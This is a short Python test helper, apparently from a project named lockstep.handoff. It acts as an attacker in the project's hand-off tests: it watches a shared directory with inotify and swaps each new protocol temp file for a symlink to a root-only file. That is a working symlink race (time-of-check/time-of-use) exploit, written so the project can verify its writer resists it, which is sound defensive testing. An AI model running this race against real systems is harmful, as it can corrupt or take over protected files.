# Copyright: lockstep.handoff contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""An attacker for the hand-off tests, run as another member of the directory's group.

    python3 swap_attacker.py DIRECTORY TARGET

Watches DIRECTORY with inotify and, the moment a protocol temp (``.NAME.*.tmp``) appears,
renames it away (to NAME.stolen) and puts a symlink to TARGET (a root-only file) in its
place: a writer that then opens, chmods or renames the temp by its name acts on TARGET.
Prints ``ready PID`` once the watch is set (su may start it outside the caller's process
group, so the caller ends it by that pid), then ``swapped NAME`` or ``missed NAME: why`` per
temp. Standard library only (ctypes inotify), so it runs with the system python3.
"""

import ctypes
import os
import re
import struct
import sys

IN_CREATE = 0x100
EVENT = struct.Struct('iIII')
TEMP = re.compile(r'^\..+\.[0-9a-f]{12}\.tmp$')


def main(directory, target):
    libc = ctypes.CDLL(None, use_errno=True)
    watch = libc.inotify_init1(0)
    if watch < 0 or libc.inotify_add_watch(watch, directory.encode(), IN_CREATE) < 0:
        raise OSError(ctypes.get_errno(), 'inotify on %s' % directory)
    print('ready %d' % os.getpid(), flush=True)
    planted = set()
    while True:
        events = os.read(watch, 65536)
        offset = 0
        while offset < len(events):
            length = EVENT.unpack_from(events, offset)[3]
            name = events[offset + EVENT.size:offset + EVENT.size + length].rstrip(b'\0').decode()
            offset += EVENT.size + length
            if not TEMP.match(name) or name in planted:
                continue
            path = os.path.join(directory, name)
            try:
                os.rename(path, path + '.stolen')
                planted.add(name)
                os.symlink(target, path)
                print('swapped %s' % name, flush=True)
            except OSError as exc:
                print('missed %s: %s' % (name, exc.strerror), flush=True)


if __name__ == '__main__':
    main(sys.argv[1], sys.argv[2])
